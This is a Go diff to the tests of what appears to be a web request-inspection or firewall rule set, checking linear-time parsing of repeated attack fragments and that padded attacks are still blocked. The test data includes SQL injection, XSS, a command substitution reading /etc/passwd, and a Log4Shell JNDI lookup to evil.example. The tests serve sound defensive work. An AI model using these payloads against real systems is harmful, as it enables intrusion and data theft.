@@ -51,13 +51,35 @@ func FuzzFastAgreesWithPlain(f *testing.F) {
 	})
 }
 
-// TestWorkGrowsWithTheValue counts work by what it costs to be sure about: the
-// values that hurt most are repeated, and the time per byte must stay the same
-// within a wide margin. Time is compared with time of the same run only.
-func TestRepeatedPiecesAreHandled(t *testing.T) {
+// TestRepeatedPiecesTakeLinearTime gives every lexer and decoder long runs of
+// the pieces that make careless ones quadratic. Quadratic work on a value of this
+// size takes minutes for each piece, so the test would run into its timeout.
+func TestRepeatedPiecesTakeLinearTime(t *testing.T) {
+	const size = 200_000
+	rs := Default()
 	for _, piece := range []string{
-		"<a b='", "<", "((((", "' or ", "union ", "union select ", "${", "{{", "../", "/*", "`", ";ls ", "$(", "&#x", "%25", "\\u0041", "a=", "\r\nx:", "script", "<script", "on=", "//", "http://", "))", "|", "O:1:", "select ", "'\"`", "{\"", "()", "() {", "$a", "=", "..", "%", "+A", "AAAA", "alert(", "document.", "@@", "--", "#",
+		"<a b='", "<", "((((", "' or ", "union ", "union select ", "${", "{{", "../", "/*", "`", ";ls ", "$(", "&#x", "%25", "\\u0041", "a=", "\r\nx:", "script",
+		"<script", "on=", "//", "http://", "))", "|", "O:1:", "select ", "'\"`", "{\"", "()", "() {", "$a", "=", "..", "%", "+A", "AAAA", "alert(", "document.",
+		"@@", "--", "#", "/*! ", "<? ", "if (", "1,sleep(", "x;y ", "a/b/", "\\", "time ", "&lt;", "\x00", "\xc0\xae",
 	} {
-		verdicts(Default(), strings.Repeat(piece, 20000/len(piece)))
+		x := rs.Begin()
+		value := strings.Repeat(piece, size/len(piece))
+		x.Value(Query, "q", value)
+		x.Body("application/json", value)
+		x.Body("text/xml", value)
+		x.Body("multipart/form-data; boundary="+piece, value)
+		x.End()
+	}
+}
+
+// TestLongPaddingHidesNothing puts attacks behind and between long texts.
+func TestLongPaddingHidesNothing(t *testing.T) {
+	for _, attack := range []string{"' UNION SELECT name FROM users--", ";<script>alert(1);</script>", ";$(cat /etc/passwd)", "{{7*7}}", "${jndi:ldap://evil.example/a}"} {
+		for _, size := range []int{8 << 10, 128 << 10, 1 << 20} {
+			value := strings.Repeat("A", size) + attack
+			if !Blocked(inspectOne(Default(), Form, "a", value)) {
+				t.Errorf("%q behind %d bytes is not blocked", attack, size)
+			}
+		}
 	}
 }
